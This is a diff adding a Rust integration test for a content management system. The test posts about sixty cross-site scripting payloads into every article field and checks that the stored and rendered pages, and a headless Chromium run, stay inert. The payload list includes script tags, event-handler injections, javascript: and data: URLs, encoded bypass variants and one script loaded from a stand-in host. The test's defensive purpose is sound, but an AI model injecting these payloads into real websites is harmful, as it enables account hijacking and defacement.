@@ -1,0 +1,283 @@
+//! XSS: payloads posted straight to the API (no editor in between) into every text field of an
+//! article; the stored and rendered HTML (public page and console) carry nothing that runs, and
+//! headless Chromium, opening what was rendered, sees no dialog. A control page with one
+//! unsanitised payload proves the browser check can fail.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use serde_json::json;
+use zhanqun_core::SiteRole;
+use zhanqun_tests::TestApp;
+
+const PAYLOADS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" onerror=\"alert(1)\">",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<a href=\"javascript:alert(1)\">点我</a>",
+    "<a href=\"JAVASCRIPT:alert(1)\">点我</a>",
+    "<a href=\"&#x6A;avascript:alert(1)\">点我</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
+    "<a href=\"vbscript:msgbox(1)\">点我</a>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<div style=\"width: expression(alert(1));\">x</div>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
+    "<link rel=stylesheet href=\"javascript:alert(1)\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
+    "<input onfocus=alert(1) autofocus>",
+    "<select onfocus=alert(1) autofocus>",
+    "<textarea onfocus=alert(1) autofocus>",
+    "<keygen onfocus=alert(1) autofocus>",
+    "<video><source onerror=\"alert(1)\">",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<p onmouseover=\"alert(1)\">悬停</p>",
+    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+    "<td background=\"javascript:alert(1)\">",
+    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<img src=x onerror=alert(1)//",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    "<a href=\" javascript:alert(1)\">空格</a>",
+];
+
+/// What must never appear in HTML we render from editor input.
+fn assert_inert(html: &str, context: &str) {
+    let doc = scraper::Html::parse_document(html);
+    let all = scraper::Selector::parse("*").unwrap();
+    for el in doc.select(&all) {
+        let name = el.value().name();
+        assert!(
+            !matches!(
+                name,
+                "iframe" | "frame" | "object" | "embed" | "base" | "style" | "svg" | "math"
+            ),
+            "{context}: <{name}> in {}",
+            el.html()
+        );
+        if name == "meta" {
+            assert!(
+                el.value().attr("http-equiv").is_none(),
+                "{context}: {}",
+                el.html()
+            );
+        }
+        if name == "link" {
+            assert!(
+                el.value().attr("href").is_some_and(|h| h.starts_with('/')),
+                "{context}: {}",
+                el.html()
+            );
+        }
+        if name == "form" {
+            assert!(
+                el.value().attr("action").is_none_or(|h| h.starts_with('/')),
+                "{context}: {}",
+                el.html()
+            );
+        }
+        if name == "script" {
+            let src = el.value().attr("src").unwrap_or("");
+            assert!(src.starts_with('/'), "{context}: script {}", el.html());
+        }
+        for (attr, value) in el.value().attrs() {
+            assert!(!attr.starts_with("on"), "{context}: {attr} on <{name}>");
+            if matches!(
+                attr,
+                "href" | "src" | "action" | "background" | "formaction" | "data"
+            ) {
+                let v: String = value
+                    .chars()
+                    .filter(|c| !c.is_whitespace() && !c.is_control())
+                    .collect::<String>()
+                    .to_lowercase();
+                assert!(
+                    !v.starts_with("javascript:")
+                        && !v.starts_with("data:")
+                        && !v.starts_with("vbscript:"),
+                    "{context}: {attr}={value}"
+                );
+            }
+            if attr == "style" {
+                assert!(
+                    name == "html" || name == "body" || !value.contains("javascript"),
+                    "{context}: style"
+                );
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn payloads_posted_to_the_api_are_stored_and_rendered_inert() {
+    assert!(PAYLOADS.len() >= 50);
+    let t = TestApp::spawn().await;
+    let f = t.fixture().await;
+    let site = f.site("6108280001");
+    let column = f.column("6108280001/xwzx/tzgg");
+    let ed = t.account("ed", None).await;
+    let rv = t.account("rv", None).await;
+    t.grant(ed, SiteRole::Editor, site, Some(column)).await;
+    t.grant(rv, SiteRole::Reviewer, site, None).await;
+    let ed = t.login("ed").await;
+    let rv = t.login("rv").await;
+
+    let mut rendered = Vec::new();
+    for (i, p) in PAYLOADS.iter().enumerate() {
+        let body = json!({
+            "title": format!("标题{i}{p}"),
+            "subtitle": p, "summary": p, "author": p, "source": p,
+            "body_html": format!("<p>正文{i}</p>{p}<p>结尾</p>"),
+            "disclosure": {"doc_number": p, "issuing_organ": p, "topic": p},
+        });
+        let r = ed
+            .post(&format!("/api/v1/columns/{}/articles", column.0), body)
+            .await;
+        assert_eq!(r.status, 201, "{p}: {}", r.json);
+        let id = r.json["id"].as_i64().unwrap();
+        ed.post(
+            &format!("/api/v1/articles/{id}/transitions"),
+            json!({"action": "submit", "secrecy_confirmed": true}),
+        )
+        .await;
+        let r = rv
+            .post(
+                &format!("/api/v1/articles/{id}/transitions"),
+                json!({"action": "approve"}),
+            )
+            .await;
+        assert_eq!(r.json["status"], "published", "{}", r.json);
+
+        let stored = t
+            .store
+            .article(zhanqun_core::ArticleId(id))
+            .await
+            .unwrap()
+            .unwrap();
+        assert_inert(
+            &stored.body_html,
+            &format!("stored body of payload {i} {p}"),
+        );
+        assert!(
+            stored.body_html.contains(&format!("正文{i}")),
+            "content kept"
+        );
+
+        let public = t
+            .page("www.jiaxian.gov.cn", &format!("/art/{id}.html"), 200)
+            .await;
+        assert_inert(&public, &format!("public page of payload {i} {p}"));
+        let (status, console) = ed.page(&format!("/articles/{id}")).await;
+        assert_eq!(status, 200);
+        assert_inert(&console, &format!("console page of payload {i} {p}"));
+        let (_, editor) = ed.page(&format!("/articles/{id}/edit")).await;
+        assert_inert(&editor, &format!("editor of payload {i} {p}"));
+        rendered.push(public);
+        rendered.push(console);
+    }
+    // The list and home pages show every title, escaped.
+    let list = t.page("www.jiaxian.gov.cn", "/xwzx/tzgg/", 200).await;
+    assert_inert(&list, "column list");
+    let (_, work) = ed.page("/").await;
+    assert_inert(&work, "my work");
+
+    browser_sees_no_dialog(&rendered);
+}
+
+/// Opens the rendered pages in headless Chromium with the dialog functions replaced by a marker
+/// (no CSP in the way: the markup alone must be inert).
+fn browser_sees_no_dialog(pages: &[String]) {
+    let Some(chromium) = ["chromium", "chromium-browser", "google-chrome"]
+        .into_iter()
+        .find(|b| {
+            std::process::Command::new(b)
+                .arg("--version")
+                .output()
+                .is_ok_and(|o| o.status.success())
+        })
+    else {
+        assert!(
+            std::env::var("ZHANQUN_NO_BROWSER").is_ok(),
+            "Chromium is needed for the XSS browser check (apt-get install chromium), or set ZHANQUN_NO_BROWSER=1"
+        );
+        return;
+    };
+    let hook = "<script>['alert','confirm','prompt','print'].forEach(function(n){window[n]=function(){document.documentElement.setAttribute('data-xss','fired')}});</script>";
+    let bodies: String = pages
+        .iter()
+        .map(|p| {
+            let start = p.find("<body").unwrap_or(0);
+            let end = p.rfind("</body>").unwrap_or(p.len());
+            format!("<section>{}</section>", &p[start..end])
+        })
+        .collect();
+    let dir = tempfile::tempdir().unwrap();
+    let run = |name: &str, html: String| -> String {
+        let path = dir.path().join(name);
+        std::fs::write(&path, html).unwrap();
+        let out = std::process::Command::new(chromium)
+            .args([
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-dev-shm-usage",
+                "--virtual-time-budget=3000",
+                "--dump-dom",
+            ])
+            .arg(format!("file://{}", path.display()))
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let control = run(
+        "control.html",
+        format!(
+            "<!doctype html><html><head>{hook}</head><body><img src=x onerror=alert(1)></body></html>"
+        ),
+    );
+    assert!(
+        control.contains("data-xss=\"fired\""),
+        "the browser check must be able to fail: {control}"
+    );
+    let dom = run(
+        "pages.html",
+        format!(
+            "<!doctype html><html><head><meta charset=utf-8>{hook}</head><body>{bodies}</body></html>"
+        ),
+    );
+    assert!(dom.contains("正文0"), "the pages were rendered");
+    assert!(
+        !dom.contains("data-xss=\"fired\""),
+        "a dialog was opened by rendered content"
+    );
+}
